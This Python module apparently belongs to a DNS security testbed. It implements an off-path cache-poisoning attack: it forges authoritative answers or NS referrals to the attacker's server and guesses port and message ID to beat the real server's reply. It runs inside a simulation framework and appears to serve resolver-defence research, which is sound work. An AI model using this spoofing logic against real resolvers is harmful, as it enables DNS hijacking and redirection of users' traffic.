"""Races a server with answers in its name, guessing what only the server has seen."""

from collections.abc import Iterable
from typing import Literal

import dns.flags
import dns.message
import dns.rrset
from pydantic import Field

from testbed.attack.api import Moment, Spoofed, SpoofedDatagram
from testbed.attack.guessing import MINIMISED, Guessing, GuessingParameters
from testbed.core.message import encode
from testbed.core.zone import Zone

PORT = 53
TTL = 3600


class SpoofResponsesParameters(GuessingParameters):
    """What is guessed, how often, and what the forged responses say."""

    forge: Literal["answer", "referral"] = Field(
        "answer",
        description="answer: the attacker's address for what is asked. referral: the target zone is served "
        "by the attacker's server, which has another address for the sensitive name.",
    )
    ids: Literal["next", "any"] = Field(
        "next",
        description="Message IDs that it guesses. next: those after the one that the attacker's own server "
        "saw last, if it saw any. any: at random.",
    )
    minimised: bool = Field(False, description=MINIMISED)


class SpoofResponses(Guessing):
    """Sends responses in a server's name before the server does, and guesses port and message ID.

    It causes the question itself and so knows what is asked and when, but sees no query. Where an earlier
    question has led the resolver to the attacker's own server, it goes by what came in there.
    """

    source = "RFC 5452 sections 3 to 5; RFC 3833 section 2.2"
    Parameters = SpoofResponsesParameters
    parameters: SpoofResponsesParameters

    def off_path(self, moment: Moment) -> Iterable[Spoofed]:
        """Answer, again and again."""
        response = self._response(moment)
        for guess in self.guesses(moment, PORT):
            response.id = self._identifier(moment, guess.number)
            yield SpoofedDatagram(guess.server, guess.resolver, encode(response), guess.after)

    def _identifier(self, moment: Moment, number: int) -> int:
        if self.parameters.ids == "next" and moment.arrivals:
            return (moment.arrivals[-1].identifier + 1 + number) % 2**16
        return self.scene.rng.getrandbits(16)

    def _response(self, moment: Moment) -> dns.message.Message:
        """What it says, to the question as the server is asked it."""
        name, rdtype = self.asked(moment, self.parameters.minimised)
        response = dns.message.make_response(dns.message.make_query(name, rdtype))
        if self.parameters.forge == "referral":
            servers = dns.rrset.from_text(self.scene.target_zone, TTL, "IN", "NS", str(self.scene.own_name))
            response.authority.append(servers)
            return response
        response.flags |= dns.flags.AA
        address = self.scene.own_address(rdtype)
        if address is not None:
            response.answer.append(dns.rrset.from_text(name, TTL, "IN", rdtype, address))
        return response

    def serves(self) -> Iterable[Zone]:
        """The target zone, where the resolver is referred to the attacker's server for it."""
        if self.parameters.forge == "referral":
            yield self.scene.target_led_away()
